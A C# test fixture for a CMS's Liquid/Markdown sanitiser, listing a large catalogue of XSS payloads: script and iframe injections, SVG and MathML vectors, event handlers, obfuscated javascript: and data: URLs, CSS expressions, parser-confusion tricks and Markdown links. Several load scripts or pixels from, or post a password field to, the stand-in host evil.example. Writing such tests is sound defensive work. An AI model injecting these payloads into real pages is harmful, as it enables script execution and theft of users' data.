namespace Portal.Tests.Cms.Liquid;

/// <summary>Attacks by mark-up, written for this project: each would run a script, load from elsewhere, style or submit where it is let through.</summary>
internal static class XssVectors
{
    private const string Act = "alert(7)";

    /// <summary>Elements that run or load by themselves.</summary>
    private static readonly string[] Elements =
    [
        $"<script>{Act}</script>", $"<SCRIPT>{Act}</SCRIPT>", $"<script\n>{Act}</script\n>", $"<script/x>{Act}</script>", "<script src=//evil.example/a.js></script>",
        $"<scr<script>ipt>{Act}</scr</script>ipt>", $"<<script>{Act}//<</script>", $"<script>{Act}", $"</p><script>{Act}</script><p>", "<script type=module>import '//evil.example/a.js'</script>",
        "<iframe src=javascript:alert(7)></iframe>", "<iframe srcdoc=\"<script>alert(7)</script>\"></iframe>", "<iframe src=//evil.example></iframe>", "<frameset onload=alert(7)>",
        "<object data=javascript:alert(7)></object>", "<object data=//evil.example/a.swf></object>", "<embed src=javascript:alert(7)>", "<applet code=A></applet>",
        "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/a.css>", "<link rel=import href=//evil.example>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(7)\">",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<style>@import '//evil.example/a.css'</style>", "<style>body{background:url(//evil.example/x)}</style>",
        "<style>*{x:expression(alert(7))}</style>", "<form action=//evil.example><input name=pw></form>", "<form action=javascript:alert(7)><button>go</button></form>",
        "<input autofocus onfocus=alert(7)>", "<button formaction=javascript:alert(7)>go</button>", "<isindex type=image src=1 onerror=alert(7)>", "<textarea autofocus onfocus=alert(7)></textarea>",
        "<select autofocus onfocus=alert(7)></select>", "<keygen autofocus onfocus=alert(7)>", "<portal src=//evil.example></portal>", "<template><script>alert(7)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(7)>\"></noscript>", "<xmp><script>alert(7)</script></xmp>", "<plaintext><script>alert(7)</script>",
    ];

    /// <summary>Drawings and formulas, which bring languages of their own.</summary>
    private static readonly string[] Foreign =
    [
        "<svg onload=alert(7)></svg>", "<svg><script>alert(7)</script></svg>", "<svg/onload=alert(7)>", "<svg><animate onbegin=alert(7) attributeName=x dur=1s></svg>",
        "<svg><set attributeName=onmouseover to=alert(7)></svg>", "<svg><a xlink:href=javascript:alert(7)><text y=9>x</text></a></svg>", "<svg><use href=//evil.example/a.svg#x></svg>",
        "<svg><image href=//evil.example/x.png></svg>", "<svg><foreignObject><iframe src=javascript:alert(7)></iframe></foreignObject></svg>", "<svg><style><img src=x onerror=alert(7)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(7)>\">", "<math><mtext><table><mglyph><style><img src=x onerror=alert(7)></style></mglyph></table></mtext></math>",
        "<math href=javascript:alert(7)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(7)>x</maction></math>",
        "<math><annotation-xml encoding=text/html><script>alert(7)</script></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(7)></style></mglyph></form>",
    ];

    /// <summary>Attributes that run.</summary>
    private static readonly string[] Handlers =
    [
        "<img src=x onerror=alert(7)>", "<img src=x oNeRrOr=alert(7)>", "<img src=x onerror\n=alert(7)>", "<img/src=x/onerror=alert(7)>", "<img src=`x`onerror=alert(7)>", "<img \"\"\"><script>alert(7)</script>\">",
        "<IMG SRC=x onload=\"alert(7)\">", "<body onload=alert(7)>", "<p onclick=alert(7)>x</p>", "<div onmouseover='alert(7)'>x</div>", "<a onmouseover=alert(7)>x</a>", "<a href=# onclick=alert(7)>x</a>",
        "<details open ontoggle=alert(7)>x</details>", "<video src=x onerror=alert(7)></video>", "<video><source onerror=alert(7)></video>", "<audio src=x onerror=alert(7)></audio>",
        "<marquee onstart=alert(7)>x</marquee>", "<div onpointerenter=alert(7)>x</div>", "<div contenteditable onblur=alert(7)>x</div>", "<table onscroll=alert(7)><tr><td>x</td></tr></table>",
        "<span style=animation-name:x onanimationstart=alert(7)>x</span>", "<b onbeforescriptexecute=alert(7)>x</b>", "<p on\u0000click=alert(7)>x</p>", "<img src=x onerror=\"&#97;lert(7)\">",
        "<img src=\"x\" title=\"a\"onerror=alert(7)//\">", "<figure onwheel=alert(7)>x</figure>", "<ul onfocusin=alert(7) tabindex=1><li>x</li></ul>",
    ];

    /// <summary>Addresses that run or that lead a page's own requests elsewhere.</summary>
    private static readonly string[] Addresses =
    [
        "<a href=javascript:alert(7)>x</a>", "<a href=\"JaVaScRiPt:alert(7)\">x</a>", "<a href=\" javascript:alert(7)\">x</a>", "<a href=\"java\tscript:alert(7)\">x</a>", "<a href=\"java\nscript:alert(7)\">x</a>",
        "<a href=\"java&#10;script:alert(7)\">x</a>", "<a href=\"&#106;avascript:alert(7)\">x</a>", "<a href=\"&#x6A;avascript&colon;alert(7)\">x</a>", "<a href=\"\u0001javascript:alert(7)\">x</a>",
        "<a href=vbscript:msgbox(7)>x</a>", "<a href=\"data:text/html,<script>alert(7)</script>\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"blob:https://a.example/1\">x</a>", "<a href=\"file:///etc/passwd\">x</a>", "<a href=\"javascript://%0aalert(7)\">x</a>", "<a href=\"jar:javascript:alert(7)!/\">x</a>",
        "<img src=javascript:alert(7)>", "<img src=\"data:image/svg+xml,<svg onload=alert(7)>\">", "<img src=//evil.example/pixel.gif>", "<img src=https://evil.example/pixel.gif>", "<img src=\"/\\evil.example/x\">",
        "<img srcset=\"//evil.example/x 1x\">", "<img src=/a.png srcset=\"/a.png 1x, https://evil.example/b.png 2x\">", "<video poster=//evil.example/x></video>", "<video src=https://evil.example/x.mp4></video>",
        "<audio><source src=//evil.example/x></audio>", "<video><track src=//evil.example/x></video>", "<table background=javascript:alert(7)><tr><td>x</td></tr></table>", "<td background=//evil.example/x>x</td>",
        "<a href=/a ping=//evil.example>x</a>", "<blockquote cite=javascript:alert(7)>x</blockquote>", "<img lowsrc=javascript:alert(7)>", "<img dynsrc=javascript:alert(7)>", "<img longdesc=javascript:alert(7)>",
    ];

    /// <summary>Styles.</summary>
    private static readonly string[] Styles =
    [
        "<p style=\"background:url(javascript:alert(7))\">x</p>", "<p style=\"background:url(//evil.example/x)\">x</p>", "<p style=\"width:expression(alert(7))\">x</p>", "<p style=\"-moz-binding:url(//evil.example)\">x</p>",
        "<p style=\"behavior:url(//evil.example)\">x</p>", "<div style=\"position:fixed;inset:0\">x</div>", "<p style=\"&#x62;ackground:url(//evil.example)\">x</p>", "<p STYLE=\"color:red\">x</p>",
    ];

    /// <summary>Tricks on parsers: comments, processing instructions, unclosed quotes.</summary>
    private static readonly string[] Parsing =
    [
        "<!--><img src=x onerror=alert(7)>-->", "<!-- --!><script>alert(7)</script> -->", "<![CDATA[<script>alert(7)</script>]]>", "<?xml version=\"1.0\"?><script>alert(7)</script>", "<!DOCTYPE html><script>alert(7)</script>",
        "\"><script>alert(7)</script>", "'><img src=x onerror=alert(7)>", "\" onmouseover=\"alert(7)", "' autofocus onfocus='alert(7)", "</title><script>alert(7)</script>", "</textarea><script>alert(7)</script>",
        "</style><script>alert(7)</script>", "--><script>alert(7)</script><!--", "<a title=\"</a><script>alert(7)</script>\">x</a>", "<p id=\"</p><img src=x onerror=alert(7)>\">x</p>", "<div><div><div><script>alert(7)</script>",
        "<a href=\"x\"onclick=\"alert(7)\">x</a>", "<b <script>alert(7)</script>", "&lt;script&gt;alert(7)&lt;/script&gt;<img src=x onerror=alert(7)>", "\uFEFF<script>alert(7)</script>", "<img src=x:x onerror=alert(7)//",
    ];

    /// <summary>Attacks in the words of Markdown; harmless HTML in it is attacked by the others.</summary>
    private static readonly string[] Markdown =
    [
        "[x](javascript:alert(7))", "[x](JaVaScRiPt:alert(7))", "[x](<java\tscript:alert(7)>)", "[x](data:text/html,<script>alert(7)</script>)", "![x](javascript:alert(7))", "![x](//evil.example/pixel.gif)",
        "![x](https://evil.example/pixel.gif)", "<javascript:alert(7)>", "[x]: javascript:alert(7)\n\n[x]", "[x](# \"a\" onclick=alert(7))", "[x](/a 'x\"onmouseover=alert(7) y=\"')", "`<script>alert(7)</script>`<img src=x onerror=alert(7)>",
        "[^1]\n\n[^1]: <script>alert(7)</script>", "| a |\n|---|\n| <img src=x onerror=alert(7)> |", "- [ ] <svg onload=alert(7)>", "# <img src=x onerror=alert(7)>",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Elements, .. Foreign, .. Handlers, .. Addresses, .. Styles, .. Parsing, .. Markdown];
}
